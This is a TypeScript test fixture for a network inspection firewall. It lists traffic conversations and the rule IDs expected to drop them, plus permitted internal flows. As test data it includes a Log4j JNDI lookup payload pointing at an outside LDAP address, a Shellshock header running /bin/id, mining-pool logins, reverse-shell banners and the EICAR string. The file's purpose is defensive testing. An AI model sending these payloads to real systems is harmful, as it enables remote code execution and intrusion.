import type { InspectedFlow } from '../../constructs/inspection-vpc/inspected-flows';
import { clientHello, type Exchange, serverHello } from './packets';

/** What is said, and the rule that drops it; without one it passes our own rules. */
export interface Conversation extends Exchange {
  readonly title: string;
  readonly meets?: number;
}

const TLS_1_2 = 0x03_03;
const TLS_1_0 = 0x03_01;
const request = (line: string, header = ''): string => `${line} HTTP/1.1\r\nHost: example.com\r\n${header}\r\n`;

export const CONVERSATIONS: readonly Conversation[] = [
  {
    title: 'TLS 1.2 to a name passes',
    protocol: 'tcp',
    says: [clientHello('api.example.com', TLS_1_2), serverHello(TLS_1_2)],
  },
  {
    title: 'one network of the organization to another is dropped',
    protocol: 'tcp',
    to: '10.30.0.10',
    meets: 9_000_005,
  },
  { title: 'a lookup past the resolver is dropped', protocol: 'udp', port: 53, says: ['lookup'], meets: 9_000_001 },
  { title: 'QUIC is dropped', protocol: 'udp', port: 443, says: ['quic'], meets: 9_000_001 },
  { title: 'an echo to the internet is dropped', protocol: 'icmp', says: ['data carried out'], meets: 9_000_002 },
  { title: 'another port than 443 is dropped', protocol: 'tcp', port: 8443, meets: 9_000_003 },
  {
    title: 'what is opened from the internet is dropped',
    protocol: 'tcp',
    port: 443,
    opens: 'outside',
    meets: 9_000_004,
  },
  {
    title: 'HTTP in the clear on 443 is dropped',
    protocol: 'tcp',
    says: [request('GET /'), 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n', request('GET /')],
    meets: 9_000_011,
  },
  {
    title: 'SSH on 443 is dropped',
    protocol: 'tcp',
    says: ['SSH-2.0-OpenSSH_9.2\r\n', 'SSH-2.0-OpenSSH_9.2\r\n', 'x'],
    meets: 9_000_012,
  },
  {
    title: 'TLS 1.0 is dropped',
    protocol: 'tcp',
    says: [clientHello('api.example.com', TLS_1_0), serverHello(TLS_1_0), 'x'],
    meets: 9_000_013,
  },
  {
    title: 'TLS to an address is dropped',
    protocol: 'tcp',
    says: [clientHello('203.0.113.10', TLS_1_2), serverHello(TLS_1_2)],
    meets: 9_000_014,
  },
  {
    title: 'a login at a Monero pool is dropped',
    protocol: 'tcp',
    says: ['{"id":1,"method":"login","params":{"login":"4x","pass":"x","agent":"xmrig"}}\n'],
    meets: 9_000_101,
  },
  {
    title: 'a subscription at a Bitcoin pool is dropped',
    protocol: 'tcp',
    says: ['{"id":1,"method":"mining.subscribe","params":[]}\n'],
    meets: 9_000_102,
  },
  {
    title: 'a Log4j lookup from outside is dropped',
    protocol: 'tcp',
    opens: 'outside',
    says: [request('GET /', 'X-Api: ${jndi:ldap://203.0.113.10/a}\r\n')],
    meets: 9_000_103,
  },
  {
    title: 'Shellshock is dropped',
    protocol: 'tcp',
    says: [request('GET /', 'User-Agent: () { :;}; /bin/id\r\n')],
    meets: 9_000_104,
  },
  {
    title: 'a shell of root that leaves is dropped',
    protocol: 'tcp',
    says: ['uid=0(root) gid=0(root) groups=0(root)\n'],
    meets: 9_000_105,
  },
  {
    title: 'a command prompt of Windows that leaves is dropped',
    protocol: 'tcp',
    says: ['Microsoft Windows [Version 10.0.20348.1]\r\n(c) Microsoft Corporation.\r\n'],
    meets: 9_000_106,
  },
  {
    title: 'an onion name through a gateway is dropped',
    protocol: 'tcp',
    says: [clientHello('abcdef.onion.ws', TLS_1_2), serverHello(TLS_1_2)],
    meets: 9_000_109,
  },
  {
    title: 'the EICAR test file is dropped',
    protocol: 'tcp',
    says: ['x', `X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR'}-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`],
    meets: 9_000_110,
  },
  {
    title: 'an executable of Windows in the clear is dropped',
    protocol: 'tcp',
    says: ['x', `MZ${'\0'.repeat(76)}This program cannot be run in DOS mode`],
    meets: 9_000_111,
  },
];

/** Between networks of the organization, one of which may call two ports of the other. */
export const FLOWS: readonly InspectedFlow[] = [
  {
    name: 'Shop to Stock',
    from: ['10.20.0.0/16'],
    to: ['10.30.0.0/24', '192.168.7.0/24'],
    port: 8443,
    lastPort: 8444,
    reason: 'stock',
    owner: 'stock@example.com',
    expires: '2030-12-31',
  },
  {
    name: 'Shop to Clock',
    from: ['10.20.0.0/16'],
    to: ['10.30.0.0/24'],
    port: 4460,
    protocol: 'udp',
    reason: 'time',
    owner: 'stock@example.com',
    expires: '2030-12-31',
  },
];

const STOCK = '10.30.0.10';

/** What is said there; `meets` is the rule that decides the last packet, of those that pass and those that drop. */
export const CROSSINGS: readonly Conversation[] = [
  { title: 'a declared flow passes, and its answers', protocol: 'tcp', to: STOCK, port: 8443, says: ['x', 'y', 'z'] },
  { title: 'the last port of its range passes', protocol: 'tcp', to: STOCK, port: 8444 },
  { title: 'its other range passes', protocol: 'tcp', to: '192.168.7.9', port: 8443 },
  { title: 'a declared flow of UDP passes', protocol: 'udp', to: STOCK, port: 4460, says: ['x', 'y'] },
  { title: 'the port beyond is dropped', protocol: 'tcp', to: STOCK, port: 8445, meets: 9_000_005 },
  { title: 'the same port of UDP is dropped', protocol: 'udp', to: STOCK, port: 8443, meets: 9_000_005 },
  { title: 'another network is dropped', protocol: 'tcp', to: '10.31.0.10', port: 8443, meets: 9_000_005 },
  {
    title: 'the same flow the other way is dropped',
    protocol: 'tcp',
    to: STOCK,
    port: 8443,
    opens: 'outside',
    meets: 9_000_005,
  },
  {
    title: 'a connection opened from the server port is dropped',
    protocol: 'tcp',
    to: STOCK,
    port: 40_001,
    from: 8443,
    opens: 'outside',
    meets: 9_000_005,
  },
  {
    title: 'a signature within a declared flow is dropped',
    protocol: 'tcp',
    to: STOCK,
    port: 8443,
    says: ['x', 'y', request('GET /', 'User-Agent: () { :;}; /bin/id\r\n')],
    meets: 9_000_104,
  },
  {
    title: 'a signature in its answers is dropped',
    protocol: 'tcp',
    to: STOCK,
    port: 8443,
    says: ['x', `X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR'}-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`],
    meets: 9_000_110,
  },
];
